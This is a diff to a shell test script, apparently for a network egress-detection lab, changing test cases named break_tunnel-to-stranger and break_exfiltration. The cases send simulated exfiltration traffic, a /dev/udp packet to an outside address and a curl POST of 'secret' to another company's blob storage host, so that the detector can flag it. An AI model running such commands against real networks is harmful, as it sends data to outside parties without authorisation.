@@ -38,14 +38,13 @@ break_tunnel-to-stranger() {
   app() { during client bash -c 'echo >/dev/udp/203.0.113.99/5831'; }
 }
 
-# Another tenant's account may be one of Batch's, and is told of; the second
-# region of the workspace's own, which no target names, is no stranger's.
+# Another tenant's account may be one of Batch's: it is told of. (The own one, by
+# a service that no target names: test_policy.)
 break_exfiltration() {
-  want 1 egress-unexplained egress-somebodys-storage
+  want 0 egress-somebodys-storage
   app_packets='tcp port 443 and host 203.0.113.20'
-  break_it() { record_add public blob.core.windows.net stlab-secondary 'A 203.0.113.20'; }
   app() {
     during client curl -s -m 1 --cacert "$LAB_CERTS/ca.pem" -d secret \
-      https://otherco.blob.core.windows.net/in https://stlab-secondary.blob.core.windows.net/in
+      https://otherco.blob.core.windows.net/in
   }
 }
